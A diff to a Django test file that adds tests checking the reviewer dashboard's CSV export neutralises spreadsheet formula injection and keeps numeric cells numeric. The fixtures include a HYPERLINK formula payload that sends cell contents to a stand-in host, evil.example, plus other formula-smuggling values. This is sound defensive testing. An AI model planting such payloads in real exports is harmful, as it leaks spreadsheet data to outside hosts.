@@ -11,10 +11,14 @@ from django.db.models import DateField
 from django.db.models.functions import TruncWeek
 from django.urls import reverse
 
+from grading.gate import draft_grade
 from grading.models import Draft, Review
+from grading.reviews import conversation_grade, decision_record
 from reviewer.dashboards import export
+from tests.grading.conversations import llm_judge, upsert, verdicts_reply
+from tests.grading.drafts import CLEAN_BODY, draft_reply, llm_draft_judge, save_draft, setup_org_memory
 from tests.reviewer.dashboards.test_figures import _scope
-from tests.reviewer.dashboards.world import build_world
+from tests.reviewer.dashboards.world import MONDAY, build_world, conversation_payload
 from tests.reviewer.test_queue_items import bulk_draft_items
 
 pytestmark = pytest.mark.django_db
@@ -70,3 +74,44 @@ def test_the_exports_memory_stays_flat_as_the_rows_grow(org, client_for, stakeho
     big_rows, big = _peak_bytes(client, org)
     assert (small_rows, big_rows) == (301, 3001)
     assert big < small * 1.5, (small, big)
+
+
+def test_it_neutralises_every_cell_a_spreadsheet_would_run_as_a_formula_and_keeps_its_numbers(
+    org, fake_llm, operator, client_for, stakeholder
+):
+    """Pipelines choose ids and application names, operators write notes: a cell of theirs that starts with = + - @
+    TAB or CR goes out with a quote in front (OWASP), the rest of it intact; the numbers we write stay numbers."""
+    conversation = upsert(org, conversation_payload('=HYPERLINK("evil.example?"&A1,"x")', "@SUM(A1)", MONDAY))
+    fake_llm.script(verdicts_reply(["m1", "m2"], usable="unknown"))  # unsure: a person decides, with a note
+    review = conversation_grade(conversation_id=conversation.conversation.pk, judge=llm_judge(fake_llm))
+    note = "\t=1+1\r\n-2+3; +4"
+    checks = {"grounded": "pass", "complete": "pass", "usable": "pass"}
+    decision_record(review_id=review.pk, decided_by=operator, decided_at=MONDAY, checks=checks, note=note)
+    setup_org_memory(org)
+    draft = save_draft(org, CLEAN_BODY, external_id="-1+cmd")
+    fake_llm.script(draft_reply(8, writing=5))
+    draft_review = draft_grade(draft_id=draft.pk, judge=llm_draft_judge(fake_llm))
+    client = client_for(stakeholder)
+
+    [row] = csv.DictReader(io.StringIO(_get(client, org, format="csv")))
+    assert row["item"] == '\'=HYPERLINK("evil.example?"&A1,"x")'
+    assert row["application"] == "'@SUM(A1)"
+    assert row["decision_note"] == "'" + note
+    assert row["review_id"] == str(review.pk) and row["prompt_tokens"] == "100"
+    [draft_row] = csv.DictReader(io.StringIO(_get(client, org, format="csv", kind="draft")))
+    assert draft_row["item"] == "'-1+cmd"
+    assert float(draft_row["score"]) == draft_review.score
+    [line] = _get(client, org, format="jsonl").splitlines()
+    assert json.loads(line)["item"] == '=HYPERLINK("evil.example?"&A1,"x")'  # JSONL is data, not a sheet
+
+
+def test_it_writes_a_negative_number_of_ours_as_a_number_and_text_that_looks_like_one_as_text():
+    row = [None] * len(export.COLUMNS)
+    row[export.COLUMNS.index("score")] = -0.5
+    row[export.COLUMNS.index("item")] = "-0.5"
+    row[export.COLUMNS.index("review_id")] = 7
+    lines = list(export.as_csv([tuple(row)]))
+    [cells] = csv.reader(io.StringIO(lines[1]), quoting=csv.QUOTE_NONNUMERIC)
+    assert cells[export.COLUMNS.index("score")] == -0.5
+    assert cells[export.COLUMNS.index("item")] == "'-0.5"
+    assert cells[export.COLUMNS.index("review_id")] == 7
